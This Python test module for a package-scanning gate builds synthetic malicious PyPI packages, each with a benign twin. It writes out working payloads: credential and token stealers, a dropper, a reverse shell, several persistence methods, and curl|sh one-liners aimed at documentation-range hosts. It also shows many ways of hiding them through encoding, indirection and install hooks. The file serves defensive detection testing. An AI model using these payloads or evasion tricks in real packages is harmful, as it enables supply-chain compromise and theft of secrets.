"""The adversarial cases: synthetic malicious packages, one evasion technique each, and
their benign twins.

Why this exists: recall on the corpus says little about an attacker who knows how the
gate reads code. Each case hides one of a few payloads (written here after the habits
of PyPI malware generally: environment and credential stealers, download-and-execute
droppers, reverse shells, persistence through cron, shell rc files, Windows autostart
and ssh `authorized_keys`, Discord/Telegram webhook exfiltration, clipboard hijacking)
behind exactly one technique, so that a miss names the technique. Each twin keeps the
layout and the technique's shape and replaces the payload by ordinary code of the same
kind (the same file, the same guard, the same trigger), so that a twin that fails names
a shape the gate punishes on its own.

Decoder twins keep the decoder but use what it decodes as data (a scaffold template
written to disk), because a package that `exec`s decoded text has no benign reading
to imitate; benign packages do decode embedded blobs (icons, licence text, templates).

Every address is in a documentation range (RFC 5737: 203.0.113.0/24, 198.51.100.0/24)
or under example.com or `.invalid`; `tests/test_adversarial.py` checks that. Nothing here
is ever run: the texts are written into archives that the gate reads as text. (The
marshal case calls `compile()`, which only parses, to get the bytes `marshal` holds.)
"""

from __future__ import annotations

import base64
import codecs
import lzma
import marshal
import string
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import make_sdist, make_wheel

#: The entry-points file of a wheel case, renamed to the package's own dist-info.
ENTRY_POINTS = "demo-1.0.dist-info/entry_points.txt"


@dataclass(frozen=True)
class Case:
    """One technique: the malicious package, its benign twin and the file to name."""

    name: str
    technique: str  # the family: decoder, indirection, location, ...; "control": none
    kind: str  # "wheel" | "sdist"
    bad: Mapping[str, str]
    good: Mapping[str, str]
    where: str  # the file (path inside the package) whose payload must be named


# -- payloads and their benign counterparts ------------------------------------------------
# Each defines `_run()` and does not call it, so every technique decides the trigger.

PAYLOADS: dict[str, str] = {
    "env_http": r"""import json
import os
import socket
import urllib.request


def _run():
    info = {"host": socket.gethostname(), "cwd": os.getcwd(), "env": dict(os.environ)}
    body = json.dumps(info).encode()
    req = urllib.request.Request(
        "http://203.0.113.10/collect", data=body, headers={"Content-Type": "application/json"}
    )
    try:
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass
""",
    "dropper": r"""import os
import stat
import subprocess
import tempfile
import urllib.request


def _run():
    target = os.path.join(tempfile.gettempdir(), ".cache-update")
    urllib.request.urlretrieve("http://198.51.100.20/stage2.bin", target)
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    subprocess.Popen(
        [target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
""",
    "revshell": r"""import os
import pty
import socket


def _run():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.5", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")
""",
    "cron": r"""import subprocess


def _run():
    line = "*/10 * * * * curl -fsSL http://198.51.100.7/u.sh | sh\n"
    current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if line not in current:
        subprocess.run(["crontab", "-"], input=current + line, text=True)
""",
    "bashrc": r"""import os


def _run():
    rc = os.path.expanduser("~/.bashrc")
    hook = "\n(curl -fsSL http://203.0.113.44/k | bash >/dev/null 2>&1 &)\n"
    with open(rc, "a") as fh:
        fh.write(hook)
""",
    "ssh_key": r"""import os

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlaceholderKeyForTestsOnly000000000000 ops@example.com"


def _run():
    folder = os.path.expanduser("~/.ssh")
    os.makedirs(folder, mode=0o700, exist_ok=True)
    with open(os.path.join(folder, "authorized_keys"), "a") as fh:
        fh.write("\n" + KEY + "\n")
""",
    "win_autostart": r"""import os
import urllib.request
import winreg


def _run():
    exe = os.path.join(os.environ["APPDATA"], "WindowsUpdate.exe")
    urllib.request.urlretrieve("http://198.51.100.23/svc.exe", exe)
    key = winreg.OpenKey(
        winreg.HKEY_CURRENT_USER,
        r"Software\Microsoft\Windows\CurrentVersion\Run",
        0,
        winreg.KEY_SET_VALUE,
    )
    winreg.SetValueEx(key, "WindowsUpdate", 0, winreg.REG_SZ, exe)
    winreg.CloseKey(key)
""",
    "discord": r"""import json
import os
import re
import urllib.request

WEBHOOK = "https://discord.invalid/api/webhooks/000000000000000000/placeholder-token"


def _tokens():
    base = os.environ.get("APPDATA", os.path.expanduser("~/.config"))
    root = os.path.join(base, "discord", "Local Storage", "leveldb")
    found = []
    for name in os.listdir(root) if os.path.isdir(root) else []:
        if name.endswith((".log", ".ldb")):
            with open(os.path.join(root, name), errors="ignore") as fh:
                found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
    return found


def _run():
    body = json.dumps({"content": "\n".join(_tokens()) or "none"}).encode()
    headers = {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}
    urllib.request.urlopen(urllib.request.Request(WEBHOOK, data=body, headers=headers))
""",
    "telegram": r"""import glob
import os
import urllib.request

API = "https://api.telegram.invalid/bot000000:placeholder/sendDocument?chat_id=1"


def _run():
    paths = glob.glob(os.path.expanduser("~/.aws/credentials"))
    paths += glob.glob(os.path.expanduser("~/.ssh/id_*"))
    for path in paths:
        with open(path, "rb") as fh:
            data = fh.read()
        head = 'Content-Disposition: form-data; name="document"; filename="x"\r\n\r\n'
        body = b"--b\r\n" + head.encode() + data + b"\r\n--b--\r\n"
        headers = {"Content-Type": "multipart/form-data; boundary=b"}
        urllib.request.urlopen(urllib.request.Request(API, data=body, headers=headers))
""",
    "clipboard": r"""import re
import subprocess
import threading
import time

WALLET = "bc1qplaceholderplaceholderplaceholder0000"


def _watch():
    pattern = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
    while True:
        out = subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True)
        text = out.stdout.decode(errors="ignore").strip()
        if pattern.match(text) and text != WALLET:
            subprocess.run(["xclip", "-selection", "clipboard"], input=WALLET.encode())
        time.sleep(1)


def _run():
    threading.Thread(target=_watch, daemon=True).start()
""",
    "cred_zip": r"""import io
import os
import urllib.request
import zipfile


def _run():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for rel in (".aws/credentials", ".ssh/id_rsa", ".netrc", ".pypirc", ".docker/config.json"):
            path = os.path.join(os.path.expanduser("~"), rel)
            if os.path.isfile(path):
                zf.write(path, rel)
    urllib.request.urlopen("http://198.51.100.31/upload", data=buf.getvalue(), timeout=10)
""",
    "powershell": r"""import subprocess


def _run():
    cmd = "iwr http://198.51.100.23/a.ps1 -UseBasicParsing | iex"
    subprocess.Popen(
        ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", cmd],
        creationflags=0x08000000,
    )
""",
    "curl_sh": r"""import os


def _run():
    os.system("curl -fsSL http://203.0.113.9/i.sh | sh >/dev/null 2>&1 &")
""",
}

BENIGN: dict[str, str] = {
    "env_http": r"""import json
import os
import platform


def _run():
    info = {"python": platform.python_version(), "cwd": os.getcwd()}
    info["debug"] = os.environ.get("DEMO_DEBUG", "")
    path = os.path.join(os.path.expanduser("~"), ".cache", "demo", "build_info.json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(info, fh, indent=2)
""",
    "dropper": r"""import os
import shutil
import tempfile


def _run():
    target = os.path.join(tempfile.gettempdir(), "demo-build")
    os.makedirs(target, exist_ok=True)
    source = os.path.join(os.path.dirname(os.path.abspath(__file__)), "README.md")
    if os.path.exists(source):
        shutil.copy(source, target)
""",
    "revshell": r"""import socket


def _run():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("", 0))
    port = s.getsockname()[1]
    s.close()
    return port
""",
    "cron": r"""import subprocess


def _run():
    out = subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True)
    return out.stdout.strip() or "unknown"
""",
    "bashrc": r"""import os


def _run():
    cfg = os.path.expanduser("~/.config/demo/settings.ini")
    os.makedirs(os.path.dirname(cfg), exist_ok=True)
    if not os.path.exists(cfg):
        with open(cfg, "w") as fh:
            fh.write("[demo]\ncolor = auto\n")
""",
    "ssh_key": r"""import os

DEFAULTS = "[client]\ntimeout = 30\nretries = 3\n"


def _run():
    folder = os.path.expanduser("~/.config/demo")
    os.makedirs(folder, mode=0o700, exist_ok=True)
    with open(os.path.join(folder, "client.ini"), "a") as fh:
        fh.write(DEFAULTS)
""",
    "win_autostart": r"""import winreg


def _run():
    try:
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Console", 0, winreg.KEY_READ)
        value, _ = winreg.QueryValueEx(key, "VirtualTerminalLevel")
        winreg.CloseKey(key)
        return value == 1
    except OSError:
        return False
""",
    "discord": r"""import json
import os
import re

CHANGELOG = "CHANGES.rst"


def _versions():
    root = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(root, CHANGELOG)
    found = []
    if os.path.isfile(path):
        with open(path, errors="ignore") as fh:
            found += re.findall(r"^(\d+\.\d+(?:\.\d+)?)", fh.read(), re.M)
    return found


def _run():
    return json.dumps({"versions": _versions()})
""",
    "telegram": r"""import glob
import os


def _run():
    paths = glob.glob(os.path.expanduser("~/.config/demo/*.ini"))
    merged = []
    for path in paths:
        with open(path, encoding="utf-8") as fh:
            merged.append(fh.read())
    return "\n".join(merged)
""",
    "clipboard": r"""import subprocess


def _run(text="demo"):
    try:
        subprocess.run(["xclip", "-selection", "clipboard"], input=text.encode(), check=False)
    except FileNotFoundError:
        return False
    return True
""",
    "cred_zip": r"""import io
import os
import zipfile


def _run():
    buf = io.BytesIO()
    here = os.path.dirname(os.path.abspath(__file__))
    with zipfile.ZipFile(buf, "w") as zf:
        for rel in ("README.md", "LICENSE", "CHANGES.rst"):
            path = os.path.join(here, rel)
            if os.path.isfile(path):
                zf.write(path, rel)
    return buf.getvalue()
""",
    "powershell": r"""import subprocess


def _run():
    out = subprocess.run(
        ["powershell", "-NoProfile", "-Command", "$PSVersionTable.PSVersion.Major"],
        capture_output=True,
        text=True,
    )
    return out.stdout.strip()
""",
    "curl_sh": r"""import os


def _run():
    os.makedirs(os.path.join(os.path.expanduser("~"), ".cache", "demo"), exist_ok=True)
""",
}

#: Every plain source above, for the checks that encoded files cannot show (addresses).
SNIPPETS: dict[str, str] = {
    **{f"bad:{k}": v for k, v in PAYLOADS.items()},
    **{f"good:{k}": v for k, v in BENIGN.items()},
}


def _called(text: str) -> str:
    return text + "\n\n_run()\n"


# -- layouts ------------------------------------------------------------------------------

CORE = '''"""Core helpers of the demo package."""

import json


def load(path):
    with open(path, encoding="utf-8") as fh:
        return json.load(fh)
'''
SETUP_HEAD = "from setuptools import setup\n\n"
SETUP_TAIL = '\n\nsetup(name="demo", version="1.0", packages=["demo"])\n'
INIT_PLAIN = '"""The demo package."""\n\n__version__ = "1.0"\n'


def _setup_sdist(body: str) -> dict[str, str]:
    """`body` in setup.py, between the setuptools import and the setup() call."""
    return {
        "setup.py": SETUP_HEAD + body + SETUP_TAIL,
        "demo/__init__.py": INIT_PLAIN,
        "demo/core.py": CORE,
    }


def _init_wheel(body: str) -> dict[str, str]:
    """`body` as the package's `__init__.py` (runs at import)."""
    return {"demo/__init__.py": body, "demo/core.py": CORE}


def _layout(kind: str, body: str) -> tuple[dict[str, str], str]:
    if kind == "sdist":
        return _setup_sdist(body), "setup.py"
    return _init_wheel(body), "demo/__init__.py"


# -- decoders -----------------------------------------------------------------------------
# Each returns (prelude, expression evaluating to the text); `run` tells the marshal and
# compile decoders whether they feed `exec` (their output is code, not text, otherwise).

Decoder = Callable[[str, bool], tuple[str, str]]


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _d_base64(t: str, run: bool) -> tuple[str, str]:
    return "import base64\n\n", f"base64.b64decode({_b64(t.encode())!r}).decode()"


def _d_base64_zlib(t: str, run: bool) -> tuple[str, str]:
    blob = _b64(zlib.compress(t.encode(), 9))
    return "import base64\nimport zlib\n\n", f"zlib.decompress(base64.b64decode({blob!r})).decode()"


def _d_base64_lzma(t: str, run: bool) -> tuple[str, str]:
    blob = _b64(lzma.compress(t.encode()))
    return "import base64\nimport lzma\n\n", f"lzma.decompress(base64.b64decode({blob!r})).decode()"


def _d_base32(t: str, run: bool) -> tuple[str, str]:
    blob = base64.b32encode(t.encode()).decode()
    return "import base64\n\n", f"base64.b32decode({blob!r}).decode()"


def _d_base85(t: str, run: bool) -> tuple[str, str]:
    blob = base64.b85encode(t.encode()).decode()
    return "import base64\n\n", f"base64.b85decode({blob!r}).decode()"


def _d_fromhex(t: str, run: bool) -> tuple[str, str]:
    return "", f"bytes.fromhex({t.encode().hex()!r}).decode()"


def _d_codecs_hex(t: str, run: bool) -> tuple[str, str]:
    return "import codecs\n\n", f"codecs.decode({t.encode().hex()!r}, 'hex').decode()"


def _d_bytes_list(t: str, run: bool) -> tuple[str, str]:
    return f"_B = {list(t.encode())!r}\n", "bytes(_B).decode()"


def _d_xor_byte(t: str, run: bool) -> tuple[str, str]:
    data = bytes(b ^ 0x5A for b in t.encode())
    return f"_K = 90\n_D = {data!r}\n", "bytes(b ^ _K for b in _D).decode()"


def _d_xor_key(t: str, run: bool) -> tuple[str, str]:
    key = b"k3y!"
    data = bytes(c ^ key[i % len(key)] for i, c in enumerate(t.encode()))
    expr = "bytes(c ^ _K[i % len(_K)] for i, c in enumerate(_D)).decode()"
    return f"_K = {key!r}\n_D = {data!r}\n", expr


_PLAIN = string.ascii_letters + string.digits
_SHIFTED = _PLAIN[13:] + _PLAIN[:13]


def _d_translate(t: str, run: bool) -> tuple[str, str]:
    enc = t.translate(str.maketrans(_PLAIN, _SHIFTED))
    return f"_A = {_PLAIN!r}\n_B = {_SHIFTED!r}\n", f"{enc!r}.translate(str.maketrans(_B, _A))"


def _d_reversed(t: str, run: bool) -> tuple[str, str]:
    return "", f"{t[::-1]!r}[::-1]"


def _d_rot13(t: str, run: bool) -> tuple[str, str]:
    return "import codecs\n\n", f"codecs.decode({codecs.encode(t, 'rot13')!r}, 'rot13')"


def _d_chr_arith(t: str, run: bool) -> tuple[str, str]:
    nums = [ord(c) + 7 for c in t]
    return f"_N = {nums!r}\n", '"".join([chr(n - 7) for n in _N])'


def _d_split_join(t: str, run: bool) -> tuple[str, str]:
    parts = [t[i : i + 6] for i in range(0, len(t), 6)]
    return f"_P = {parts!r}\n", '"".join(_P)'


def _d_custom_arith(t: str, run: bool) -> tuple[str, str]:
    nums = [(ord(c) + 3 * i + 11) % 256 for i, c in enumerate(t)]
    prelude = (
        "def _d(v):\n"
        '    return "".join(chr((n - 3 * i - 11) % 256) for i, n in enumerate(v))\n\n\n'
        f"_V = {nums!r}\n"
    )
    return prelude, "_d(_V)"


def _d_marshal(t: str, run: bool) -> tuple[str, str]:
    # compile() parses only; the malicious code object is never run, only serialised.
    blob = marshal.dumps(compile(t, "<string>", "exec") if run else t)
    return "import marshal\n\n", f"marshal.loads({blob!r})"


def _d_compile_bytes(t: str, run: bool) -> tuple[str, str]:
    return "", f"compile({t.encode()!r}, '<config>', 'exec')"


def _d_int_bytes(t: str, run: bool) -> tuple[str, str]:
    data = t.encode()
    return "", f"(0x{data.hex()}).to_bytes({len(data)}, 'big').decode()"


def _d_escapes(t: str, run: bool) -> tuple[str, str]:
    return "", '"' + "".join(f"\\x{ord(c):02x}" for c in t) + '"'


def _d_nested(t: str, run: bool) -> tuple[str, str]:
    inner = codecs.encode(_b64(t.encode()), "rot13")
    blob = _b64(zlib.compress(inner.encode()))
    expr = (
        "base64.b64decode(codecs.decode("
        f"zlib.decompress(base64.b64decode({blob!r})).decode(), 'rot13')).decode()"
    )
    return "import base64\nimport codecs\nimport zlib\n\n", expr


def _use(prelude: str, expr: str, run: bool, compiled: bool = False) -> str:
    """The module text: `exec` the decoded text, or (the twin) use it as data."""
    if run:
        return f"{prelude}exec({expr})\n"
    if compiled:  # compile() of harmless source: run it into a namespace, as setup.py does
        return f"{prelude}_NS = {{}}\nexec({expr}, _NS)\nVERSION = _NS.get('__version__')\n"
    return (
        f"{prelude}TEMPLATE = {expr}\n\n\n"
        "def write_template(path):\n"
        '    """Write the scaffold module a new project starts from."""\n'
        '    with open(path, "w", encoding="utf-8") as fh:\n'
        "        fh.write(TEMPLATE)\n"
    )


def _decoder(name: str, dec: Decoder, payload: str, kind: str) -> Case:
    compiled = dec is _d_compile_bytes
    bad_body = _use(*dec(_called(PAYLOADS[payload]), True), True)
    good_text = '__version__ = "1.0"\n' if compiled else _called(BENIGN[payload])
    good_body = _use(*dec(good_text, not compiled), False, compiled)
    bad, where = _layout(kind, bad_body)
    good, _ = _layout(kind, good_body)
    return Case(name, "decoder", kind, bad, good, where)


DECODER_CASES = (
    _decoder("base64-env-stealer", _d_base64, "env_http", "sdist"),
    _decoder("base64-zlib-dropper", _d_base64_zlib, "dropper", "sdist"),
    _decoder("base64-lzma-reverse-shell", _d_base64_lzma, "revshell", "wheel"),
    _decoder("base32-cron", _d_base32, "cron", "sdist"),
    _decoder("base85-discord", _d_base85, "discord", "wheel"),
    _decoder("fromhex-reverse-shell", _d_fromhex, "revshell", "sdist"),
    _decoder("codecs-hex-telegram", _d_codecs_hex, "telegram", "wheel"),
    _decoder("bytes-list-curl-sh", _d_bytes_list, "curl_sh", "sdist"),
    _decoder("xor-byte-cron", _d_xor_byte, "cron", "wheel"),
    _decoder("xor-key-cred-zip", _d_xor_key, "cred_zip", "sdist"),
    _decoder("maketrans-bashrc", _d_translate, "bashrc", "sdist"),
    _decoder("reversed-bashrc", _d_reversed, "bashrc", "wheel"),
    _decoder("rot13-discord", _d_rot13, "discord", "sdist"),
    _decoder("chr-arith-telegram", _d_chr_arith, "telegram", "sdist"),
    _decoder("split-join-telegram", _d_split_join, "telegram", "wheel"),
    _decoder("custom-arith-dropper", _d_custom_arith, "dropper", "sdist"),
    _decoder("marshal-env-stealer", _d_marshal, "env_http", "wheel"),
    _decoder("compile-bytes-curl-sh", _d_compile_bytes, "curl_sh", "sdist"),
    _decoder("int-to-bytes-powershell", _d_int_bytes, "powershell", "sdist"),
    _decoder("escaped-literal-dropper", _d_escapes, "dropper", "wheel"),
    _decoder("nested-layers-env-stealer", _d_nested, "env_http", "sdist"),
)


# -- indirection --------------------------------------------------------------------------


def _src(payload: str) -> str:
    return f"_SRC = {_called(payload)!r}\n"


def _ind(name: str, kind: str, bad_body: str, good_body: str) -> Case:
    bad, where = _layout(kind, bad_body)
    good, _ = _layout(kind, good_body)
    return Case(name, "indirection", kind, bad, good, where)


CURL = "curl -fsSL http://198.51.100.7/u.sh | sh"

INDIRECTION_CASES = (
    _ind(
        "getattr-computed-name",
        "sdist",
        f'import os\n\n_name = "".join(["sy", "st", "em"])\ngetattr(os, _name)({CURL!r})\n',
        'import os\n\n_name = "".join(["get", "env"])\nHOME = getattr(os, _name)("DEMO_HOME")\n',
    ),
    _ind(
        "sys-modules-builtins",
        "wheel",
        "import sys\n\n"
        + _src(PAYLOADS["env_http"])
        + '_b = sys.modules["bu" + "iltins"]\ngetattr(_b, "ex" + "ec")(_SRC)\n',
        "import sys\n\n"
        + _src(BENIGN["env_http"])
        + '_b = sys.modules["bu" + "iltins"]\nSIZE = getattr(_b, "le" + "n")(_SRC)\n',
    ),
    _ind(
        "dunder-import-concat",
        "sdist",
        '_os = __import__("o" + "s")\n'
        '_req = __import__("urllib." + "request", fromlist=["urlopen"])\n'
        '_json = __import__("js" + "on")\n'
        '_req.urlopen("http://203.0.113.10/collect", '
        "data=_json.dumps(dict(_os.environ)).encode())\n",
        '_os = __import__("o" + "s")\n'
        '_req = __import__("urllib." + "request", fromlist=["pathname2url"])\n'
        '_json = __import__("js" + "on")\n'
        'INFO = _json.dumps({"cwd": _req.pathname2url(_os.getcwd())})\n',
    ),
    _ind(
        "importlib-reverse-shell",
        "wheel",
        "import importlib\n\n"
        '_sock = importlib.import_module("soc" + "ket")\n'
        '_os = importlib.import_module("o" + "s")\n'
        '_pty = importlib.import_module("p" + "ty")\n'
        "_s = _sock.socket(_sock.AF_INET, _sock.SOCK_STREAM)\n"
        '_s.connect(("203.0.113.5", 4444))\n'
        "for _fd in (0, 1, 2):\n    _os.dup2(_s.fileno(), _fd)\n"
        '_pty.spawn("/bin/sh")\n',
        "import importlib\n\n"
        '_sock = importlib.import_module("soc" + "ket")\n'
        '_os = importlib.import_module("o" + "s")\n'
        '_json = importlib.import_module("js" + "on")\n'
        "_s = _sock.socket(_sock.AF_INET, _sock.SOCK_STREAM)\n"
        '_s.bind(("", 0))\n'
        "PORT = _s.getsockname()[1]\n_s.close()\n"
        'CONFIG = _json.dumps({"port": PORT, "pid": _os.getpid()})\n',
    ),
    _ind(
        "exec-through-lambda",
        "sdist",
        _src(PAYLOADS["cron"]) + "_go = lambda s: exec(s)\n_go(_SRC)\n",
        _src(BENIGN["cron"]) + "_go = lambda s: compile(s, '<template>', 'exec')\n_go(_SRC)\n",
    ),
    _ind(
        "exec-via-builtins-dict",
        "wheel",
        "import builtins\n\n" + _src(PAYLOADS["ssh_key"]) + 'vars(builtins)["ex" + "ec"](_SRC)\n',
        "import builtins\n\n"
        + _src(BENIGN["ssh_key"])
        + "vars(builtins)[\"com\" + \"pile\"](_SRC, '<template>', 'exec')\n",
    ),
    _ind(
        "alias-exec",
        "sdist",
        _src(PAYLOADS["discord"]) + "_e = exec\n_e(_SRC)\n",
        _src(BENIGN["discord"]) + "_e = compile\n_e(_SRC, '<template>', 'exec')\n",
    ),
    _ind(
        "alias-os-system",
        "wheel",
        f"from os import system as _sh\n\n_sh({CURL!r})\n",
        'from os import getenv as _sh\n\nHOME = _sh("DEMO_HOME")\n',
    ),
    _ind(
        "functools-partial",
        "sdist",
        "import functools\nimport subprocess\n\n"
        "_sh = functools.partial(subprocess.run, shell=True, capture_output=True)\n"
        f"_sh({CURL!r})\n",
        "import functools\nimport subprocess\n\n"
        "_sh = functools.partial(subprocess.run, shell=True, capture_output=True)\n"
        'REV = _sh("git rev-parse --short HEAD").stdout\n',
    ),
    _ind(
        "operator-methodcaller",
        "wheel",
        f'import operator\nimport os\n\noperator.methodcaller("sys" + "tem", {CURL!r})(os)\n',
        "import operator\nimport os\n\n"
        'HOME = operator.methodcaller("get" + "env", "DEMO_HOME")(os)\n',
    ),
    _ind(
        "map-exec",
        "sdist",
        _src(PAYLOADS["telegram"]) + "list(map(exec, [_SRC]))\n",
        _src(BENIGN["telegram"]) + "SIZES = list(map(len, [_SRC]))\n",
    ),
)


# -- payload location ---------------------------------------------------------------------


def _cmdclass(snippet: str, command: str) -> dict[str, str]:
    base = {"install": "setuptools.command.install", "egg_info": "setuptools.command.egg_info"}
    body = (
        f"from {base[command]} import {command}\n\n{snippet}\n\n"
        f"class _Post({command}):\n"
        "    def run(self):\n"
        f"        {command}.run(self)\n"
        "        _run()\n"
    )
    setup = (
        SETUP_HEAD + body + f'\n\nsetup(name="demo", version="1.0", packages=["demo"], '
        f'cmdclass={{"{command}": _Post}})\n'
    )
    return {"setup.py": setup, "demo/__init__.py": INIT_PLAIN, "demo/core.py": CORE}


def _backend(snippet: str) -> dict[str, str]:
    return {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\n'
        'build-backend = "backend"\nbackend-path = ["_build"]\n\n'
        '[project]\nname = "demo"\nversion = "1.0"\n',
        "_build/backend.py": "from setuptools import build_meta as _orig\n"
        "from setuptools.build_meta import *  # noqa: F403\n\n"
        f"{snippet}\n\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    _run()\n"
        "    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)\n",
        "demo/__init__.py": INIT_PLAIN,
    }


PTH_BAD = (
    "import subprocess; subprocess.Popen(['sh', '-c', 'curl -fsSL http://203.0.113.9/i.sh | sh'],"
    " stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
)
# setuptools' own distutils-precedence.pth: the ordinary one-line import hook.
PTH_GOOD = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)


def _deep(text: str) -> dict[str, str]:
    return {
        "demo/__init__.py": '"""The demo package."""\n\nfrom . import settings\n',
        "demo/settings.py": "from . import loader\n\nDEBUG = False\n",
        "demo/loader.py": "from . import _hooks\n\nSEARCH_PATH = []\n",
        "demo/_hooks.py": text,
    }


def _entry(module: str, text: str, group: str, target: str) -> dict[str, str]:
    return {
        "demo/__init__.py": INIT_PLAIN,
        f"demo/{module}.py": text,
        ENTRY_POINTS: f"[{group}]\ndemo = {target}\n",
    }


def _cli(snippet: str) -> str:
    return f'{snippet}\n\ndef main():\n    _run()\n    print("demo 1.0")\n'


def _plugin(snippet: str) -> str:
    return f"{snippet}\n\ndef pytest_configure(config):\n    _run()\n"


def _client(snippet: str) -> str:
    return (
        f"{snippet}\n\nclass Client:\n"
        '    """What the victim calls: connecting runs `_run` first."""\n\n'
        "    def __init__(self, url):\n        self.url = url\n\n"
        "    def connect(self):\n        _run()\n        return self.url\n"
    )


DATA_LOADER = (
    '"""The demo package."""\n\nimport os\n\n'
    "_here = os.path.dirname(os.path.abspath(__file__))\n"
    'with open(os.path.join(_here, "data", "defaults.txt"), encoding="utf-8") as _fh:\n'
    "    exec(_fh.read())\n"
)
CFG_SETUP = (
    "import configparser\n\nfrom setuptools import setup\n\n"
    "_cfg = configparser.ConfigParser()\n_cfg.read('setup.cfg')\n"
    "exec(_cfg['tool:demo']['prepare'])\n\n"
    'setup(name="demo", version="1.0", packages=["demo"])\n'
)
CFG_BAD = "import os; os.system('curl -fsSL http://203.0.113.9/i.sh | sh')"
CFG_GOOD = "import os; os.environ.setdefault('DEMO_BUILD', 'release')"
HELPER_SETUP = (
    "import os\nimport sys\n\n"
    "sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
    "import _build_helpers  # noqa: E402\n\n"
    "from setuptools import setup  # noqa: E402\n\n"
    'setup(name="demo", version=_build_helpers.VERSION, packages=["demo"])\n'
)


def _loc(name: str, kind: str, bad: dict[str, str], good: dict[str, str], where: str) -> Case:
    return Case(name, "location", kind, bad, good, where)


def _pair(key: str, wrap: Callable[[str], str]) -> tuple[str, str]:
    return wrap(PAYLOADS[key]), wrap(BENIGN[key])


LOCATION_CASES = (
    _loc(
        "cmdclass-install",
        "sdist",
        _cmdclass(PAYLOADS["env_http"], "install"),
        _cmdclass(BENIGN["env_http"], "install"),
        "setup.py",
    ),
    _loc(
        "cmdclass-egg-info",
        "sdist",
        _cmdclass(PAYLOADS["cron"], "egg_info"),
        _cmdclass(BENIGN["cron"], "egg_info"),
        "setup.py",
    ),
    _loc(
        "build-backend-hook",
        "sdist",
        _backend(PAYLOADS["dropper"]),
        _backend(BENIGN["dropper"]),
        "_build/backend.py",
    ),
    _loc(
        "pth-one-liner",
        "wheel",
        {"demo_hook.pth": PTH_BAD, "demo/__init__.py": INIT_PLAIN},
        {"demo_hook.pth": PTH_GOOD, "demo/__init__.py": INIT_PLAIN},
        "demo_hook.pth",
    ),
    _loc(
        "pth-imports-module",
        "wheel",
        {"demo_hook.pth": "import demo_startup\n", "demo_startup.py": _called(PAYLOADS["bashrc"])},
        {"demo_hook.pth": "import demo_startup\n", "demo_startup.py": _called(BENIGN["bashrc"])},
        "demo_startup.py",
    ),
    _loc(
        "sitecustomize-module",
        "wheel",
        {"sitecustomize.py": _called(PAYLOADS["env_http"]), "demo/__init__.py": INIT_PLAIN},
        {"sitecustomize.py": _called(BENIGN["env_http"]), "demo/__init__.py": INIT_PLAIN},
        "sitecustomize.py",
    ),
    _loc(
        "init-at-import",
        "wheel",
        _init_wheel(_called(PAYLOADS["discord"])),
        _init_wheel(_called(BENIGN["discord"])),
        "demo/__init__.py",
    ),
    _loc(
        "three-imports-deep",
        "wheel",
        _deep(_called(PAYLOADS["dropper"])),
        _deep(_called(BENIGN["dropper"])),
        "demo/_hooks.py",
    ),
    _loc(
        "console-script-target",
        "wheel",
        _entry("cli", _cli(PAYLOADS["cred_zip"]), "console_scripts", "demo.cli:main"),
        _entry("cli", _cli(BENIGN["cred_zip"]), "console_scripts", "demo.cli:main"),
        "demo/cli.py",
    ),
    _loc(
        "pytest-plugin-entry-point",
        "wheel",
        _entry("plugin", _plugin(PAYLOADS["cron"]), "pytest11", "demo.plugin"),
        _entry("plugin", _plugin(BENIGN["cron"]), "pytest11", "demo.plugin"),
        "demo/plugin.py",
    ),
    _loc(
        "call-time-client",
        "wheel",
        {"demo/__init__.py": INIT_PLAIN, "demo/client.py": _client(PAYLOADS["telegram"])},
        {"demo/__init__.py": INIT_PLAIN, "demo/client.py": _client(BENIGN["telegram"])},
        "demo/client.py",
    ),
    _loc(
        "call-time-utils",
        "wheel",
        {"demo/__init__.py": INIT_PLAIN, "demo/utils.py": _client(PAYLOADS["dropper"])},
        {"demo/__init__.py": INIT_PLAIN, "demo/utils.py": _client(BENIGN["dropper"])},
        "demo/utils.py",
    ),
    _loc(
        "package-data-execd",
        "wheel",
        {"demo/__init__.py": DATA_LOADER, "demo/data/defaults.txt": _called(PAYLOADS["cron"])},
        {"demo/__init__.py": DATA_LOADER, "demo/data/defaults.txt": _called(BENIGN["cron"])},
        "demo/data/defaults.txt",
    ),
    _loc(
        "setup-cfg-execd",
        "sdist",
        {"setup.py": CFG_SETUP, "setup.cfg": f"[tool:demo]\nprepare = {CFG_BAD}\n"},
        {"setup.py": CFG_SETUP, "setup.cfg": f"[tool:demo]\nprepare = {CFG_GOOD}\n"},
        "setup.cfg",
    ),
    _loc(
        "setup-imports-local-helper",
        "sdist",
        {
            "setup.py": HELPER_SETUP,
            "_build_helpers.py": _called(PAYLOADS["discord"]) + 'VERSION = "1.0"\n',
        },
        {
